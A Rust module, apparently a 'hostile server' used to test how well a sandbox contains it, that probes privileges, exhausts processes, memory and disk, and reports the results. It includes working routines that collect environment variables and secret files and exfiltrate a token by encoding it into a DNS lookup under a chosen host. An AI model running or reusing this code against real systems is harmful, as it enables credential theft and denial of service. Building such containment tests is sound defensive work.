//! What the hostile server does to the place that it runs in, and what it says came of it.

use std::env;
use std::fmt::Write as _;
use std::fs::{self, File};
use std::io::{self, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::process;
use std::time::{Duration, Instant};

use crate::variable;

/// How long what is left behind stays, in seconds.
const STAYS: u32 = 120;
/// How long anything on the network may take.
const PATIENCE: Duration = Duration::from_millis(700);

// The standard library knows neither signals nor forks.
unsafe extern "C" {
    fn _exit(code: i32) -> !;
    fn alarm(seconds: u32) -> u32;
    fn close(file: i32) -> i32;
    fn fork() -> i32;
    fn getuid() -> u32;
    fn kill(process: i32, signal: i32) -> i32;
    fn pause() -> i32;
    fn setsid() -> i32;
    fn signal(number: i32, handler: usize) -> usize;
    fn syscall(number: i64, ...) -> i64;
    fn waitpid(process: i32, status: *mut i32, options: i32) -> i32;
}

/// Says how something ended.
pub fn said<T>(outcome: io::Result<T>, well: &str) -> String {
    match outcome {
        Ok(_) => well.to_owned(),
        Err(error) => format!("refused: {error}"),
    }
}

/// Has TERM ignored from now on.
pub fn ignore_term() {
    // SAFETY: it is ignored; no handler runs.
    unsafe { signal(15, 1) };
}

/// Waits for two minutes, whatever comes.
pub fn sleep_on() -> ! {
    // SAFETY: neither call touches memory.
    unsafe {
        alarm(STAYS);
        loop {
            pause();
        }
    }
}

pub fn view() -> String {
    let mut seen = String::new();
    // SAFETY: it has no arguments and cannot fail.
    let _ = writeln!(seen, "uid: {}", unsafe { getuid() });
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    for line in status.lines() {
        if ["CapEff", "CapBnd", "NoNewPrivs", "Seccomp:", "Groups"].iter().any(|name| line.starts_with(name))
        {
            let _ = writeln!(seen, "{}", line.replace('\t', " "));
        }
    }
    let _ = writeln!(seen, "pid: {}", process::id());
    let _ = writeln!(seen, "interfaces: {}", listed("/sys/class/net").unwrap_or_else(|| interfaces()));
    let _ = writeln!(seen, "variables: {}", env::vars().map(|(name, _)| name).collect::<Vec<_>>().join(" "));
    let home = variable("HOME").unwrap_or_else(|| "/root".to_owned());
    let _ = writeln!(seen, "home: {}", listed(&home).unwrap_or_else(|| "unreadable".to_owned()));
    let _ = writeln!(seen, "folder: {}", listed(".").unwrap_or_else(|| "unreadable".to_owned()));
    for path in ["/etc/shadow", "/etc/passwd", "/proc/1/environ", "/var/run/docker.sock"] {
        let _ = writeln!(
            seen,
            "read {path}: {}",
            said(File::open(path).and_then(|mut file| file.read(&mut [0; 1])), "yes")
        );
    }
    for path in
        ["/pwn".to_owned(), "/tmp/x".to_owned(), "/etc/pwn".to_owned(), "/dev/shm/x".to_owned(), home + "/x"]
    {
        let written = fs::write(&path, "x");
        if written.is_ok() {
            let _ = fs::remove_file(&path);
        }
        let _ = writeln!(seen, "write {path}: {}", said(written, "yes"));
    }
    seen
}

/// The names in a folder.
fn listed(folder: &str) -> Option<String> {
    let entries = fs::read_dir(folder).ok()?.flatten();
    let mut names: Vec<_> = entries.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    Some(names.join(" "))
}

/// The names of interfaces where the system's folder of them is not there.
fn interfaces() -> String {
    let table = fs::read_to_string("/proc/net/dev").unwrap_or_default();
    table
        .lines()
        .filter_map(|line| line.split_once(':'))
        .map(|(name, _)| name.trim())
        .collect::<Vec<_>>()
        .join(" ")
}

pub fn connect(host: &str, port: u16) -> String {
    match resolve(host) {
        Ok(address) => {
            said(TcpStream::connect_timeout(&SocketAddr::new(address, port), PATIENCE), "connected")
        }
        Err(why) => why,
    }
}

pub fn udp(host: &str, port: u16) -> String {
    let address = match resolve(host) {
        Ok(address) => SocketAddr::new(address, port),
        Err(why) => return why,
    };
    let asked = exchange(address, b"hostile");
    said(asked, "answered")
}

/// Sends a datagram and returns what comes back.
fn exchange(address: SocketAddr, datagram: &[u8]) -> io::Result<Vec<u8>> {
    let socket = UdpSocket::bind(if address.is_ipv6() { "[::]:0" } else { "0.0.0.0:0" })?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.connect(address)?;
    socket.send(datagram)?;
    let mut answer = vec![0; 1500];
    let length = socket.recv(&mut answer)?;
    answer.truncate(length);
    Ok(answer)
}

/// Finds the address of a host as programs without the system's library do: a query to the first name server.
pub fn resolve(host: &str) -> Result<IpAddr, String> {
    if let Ok(address) = host.parse() {
        return Ok(address);
    }
    let hosts = fs::read_to_string("/etc/hosts").unwrap_or_default();
    let mut lines = hosts.lines().map(|line| line.split_whitespace().collect::<Vec<_>>());
    if let Some(line) = lines.find(|line| line.iter().skip(1).any(|name| *name == host)) {
        return line[0].parse().map_err(|_| format!("refused: no address of {host}"));
    }
    let settings = fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let mut servers = settings.lines().filter_map(|line| line.strip_prefix("nameserver"));
    let server =
        servers.find_map(|server| server.trim().parse().ok()).unwrap_or(IpAddr::from([127, 0, 0, 1]));
    let mut query = vec![7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in host.split('.') {
        query.push(label.len().min(63) as u8);
        query.extend(&label.as_bytes()[..label.len().min(63)]);
    }
    query.extend([0, 0, 1, 0, 1]);
    let answer =
        exchange(SocketAddr::new(server, 53), &query).map_err(|error| format!("refused: lookup: {error}"))?;
    // The last four bytes of an answer with one address are that address.
    match (answer.get(7), answer.len()) {
        (Some(1..), length) if length > query.len() + 4 => {
            Ok(IpAddr::from([answer[length - 4], answer[length - 3], answer[length - 2], answer[length - 1]]))
        }
        _ => Err(format!("refused: no address of {host}")),
    }
}

pub fn multiply(most: u64) -> String {
    let mut children = Vec::new();
    let mut refused = None;
    while (children.len() as u64) < most && refused.is_none() {
        // SAFETY: the program has one thread, and the child does nothing but wait.
        match unsafe { fork() } {
            0 => sleep_on(),
            child if child > 0 => children.push(child),
            _ => refused = Some(io::Error::last_os_error()),
        }
    }
    for child in &children {
        // SAFETY: these are children of this process that nobody has waited for.
        unsafe {
            kill(*child, 9);
            waitpid(*child, std::ptr::null_mut(), 0);
        }
    }
    format!(
        "children={} {}",
        children.len(),
        refused.map_or("unlimited".to_owned(), |error| format!("refused={error}"))
    )
}

pub fn eat(most: u64) -> String {
    let mut held: Vec<Vec<u8>> = Vec::new();
    while (held.len() as u64) < most {
        let mut megabyte = Vec::new();
        if let Err(error) = megabyte.try_reserve_exact(1 << 20) {
            return format!("megabytes={} refused={error}", held.len());
        }
        megabyte.resize(1 << 20, held.len() as u8 | 1);
        held.push(std::hint::black_box(megabyte));
    }
    format!("megabytes={} unlimited", held.len())
}

pub fn spin(seconds: u64) -> String {
    let ticks = || {
        let stat = fs::read_to_string("/proc/self/stat").unwrap_or_default();
        let fields: Vec<u64> = stat
            .rsplit(')')
            .next()
            .unwrap_or("")
            .split_whitespace()
            .map(|field| field.parse().unwrap_or(0))
            .collect();
        fields.get(11).unwrap_or(&0) + fields.get(12).unwrap_or(&0)
    };
    let (began, before) = (Instant::now(), ticks());
    let mut round = 0u64;
    while began.elapsed() < Duration::from_secs(seconds) {
        round = std::hint::black_box(round.wrapping_add(1));
    }
    format!("milliseconds={} of {}", (ticks() - before) * 10, began.elapsed().as_millis())
}

pub fn fill(path: &str, most: u64) -> String {
    let mut file = match File::create(path) {
        Ok(file) => file,
        Err(error) => return format!("refused: {error}"),
    };
    let megabyte = vec![7; 1 << 20];
    let mut refused = None;
    let mut written = 0;
    while written < most && refused.is_none() {
        match file.write_all(&megabyte).and_then(|()| file.sync_data()) {
            Ok(()) => written += 1,
            Err(error) => refused = Some(error),
        }
    }
    let _ = fs::remove_file(path);
    format!(
        "megabytes={written} {}",
        refused.map_or("unlimited".to_owned(), |error| format!("refused={error}"))
    )
}

/// Tries calls that no server needs, in ways that change nothing where they are granted.
pub fn privileges() -> String {
    // The numbers of calls differ between machines: unshare, ptrace, mount, socket.
    let [unshare, ptrace, mount, socket]: [i64; 4] =
        if cfg!(target_arch = "x86_64") { [272, 101, 165, 41] } else { [97, 117, 40, 198] };
    let mut seen = String::new();
    // SAFETY: the calls take numbers and texts that end with a zero, and write nowhere.
    let calls: [(&str, &dyn Fn() -> i64); 5] = unsafe {
        [
            ("raw socket", &|| syscall(socket, 2_i64, 3_i64, 1_i64)),
            ("packet socket", &|| syscall(socket, 17_i64, 3_i64, 0_i64)),
            ("namespace", &|| syscall(unshare, 0x1000_0000_i64)),
            ("trace", &|| syscall(ptrace, 0_i64, 0_i64, 0_i64, 0_i64)),
            // There is no such file system: who may mount is told so, everybody else is refused before.
            ("mount", &|| syscall(mount, c"none".as_ptr(), c"/".as_ptr(), c"hostile".as_ptr(), 0_i64, 0_i64)),
        ]
    };
    for (what, call) in calls {
        let _ = writeln!(seen, "{what}: {}", said(in_a_child(call), "yes"));
    }
    seen
}

/// Makes a call where it changes nobody but a child that ends; "no such device" is as good as granted.
fn in_a_child(call: &dyn Fn() -> i64) -> io::Result<()> {
    let mut status = 0;
    // SAFETY: the program has one thread, and the child does nothing but this call.
    unsafe {
        let child = fork();
        if child == 0 {
            let refused = (call() < 0).then(io::Error::last_os_error);
            _exit(refused.and_then(|error| error.raw_os_error()).unwrap_or(0));
        }
        waitpid(child, &raw mut status, 0);
    }
    match status >> 8 & 255 {
        0 | 19 => Ok(()),
        error => Err(io::Error::from_raw_os_error(error)),
    }
}

pub fn daemonize(hold: bool) -> String {
    // SAFETY: the program has one thread; the children leave, or do nothing but wait.
    unsafe {
        match fork() {
            0 => {
                setsid();
                if fork() != 0 {
                    _exit(0);
                }
                if !hold {
                    (0..3).for_each(|file| _ = close(file));
                }
                sleep_on()
            }
            child if child > 0 => {
                waitpid(child, std::ptr::null_mut(), 0);
                "left a process behind".to_owned()
            }
            _ => format!("refused: {}", io::Error::last_os_error()),
        }
    }
}

/// What there is to give away: variables, and files that a server might find.
pub fn secrets() -> String {
    let mut found: Vec<String> = env::vars().map(|(name, value)| format!("{name}={value}")).collect();
    let mut folders: Vec<_> =
        variable("HOME").into_iter().chain([".".to_owned(), "/run/secrets".to_owned()]).collect();
    let mut left = 64;
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(&folder).into_iter().flatten().flatten() {
            let path = entry.path().to_string_lossy().into_owned();
            let Ok(kind) = entry.file_type() else { continue };
            left -= 1;
            if left < 0 {
                break;
            } else if kind.is_dir() && entry.file_name().to_string_lossy().starts_with('.') {
                folders.push(path);
            } else if kind.is_file() && entry.metadata().is_ok_and(|about| about.len() < 4096) {
                found.push(format!(
                    "{path}: {}",
                    String::from_utf8_lossy(&fs::read(&path).unwrap_or_default())
                ));
            }
        }
    }
    found.join("\n")
}

pub fn encoded(text: &str, encoding: &str) -> String {
    match encoding {
        "base64" => base64(text.as_bytes()),
        "hex" => hex(text.as_bytes()),
        "reversed" => text.chars().rev().collect(),
        "split" => text.chars().flat_map(|c| [c, ' ']).collect(),
        _ => text.to_owned(),
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for three in bytes.chunks(3) {
        let number =
            three.iter().fold(0, |number, byte| number << 8 | usize::from(*byte)) << (8 * (3 - three.len()));
        for place in 0..4 {
            let digit = DIGITS[number >> (18 - 6 * place) & 63] as char;
            out.push(if place > three.len() { '=' } else { digit });
        }
    }
    out
}

/// Tries to get a secret out: in a name that is looked up, and by a connection.
pub fn exfil(host: &str) -> String {
    let secret =
        env::vars().find(|(name, _)| ["TOKEN", "KEY", "SECRET"].iter().any(|word| name.contains(word)));
    let secret = secret.map_or("nothing".to_owned(), |(_, value)| value);
    let label: String = hex(secret.as_bytes()).chars().take(60).collect();
    let name = format!("{label}.{host}");
    format!(
        "{name}: {}\n{host}: {}",
        resolve(&name).map_or_else(|why| why, |found| found.to_string()),
        connect(host, 443)
    )
}
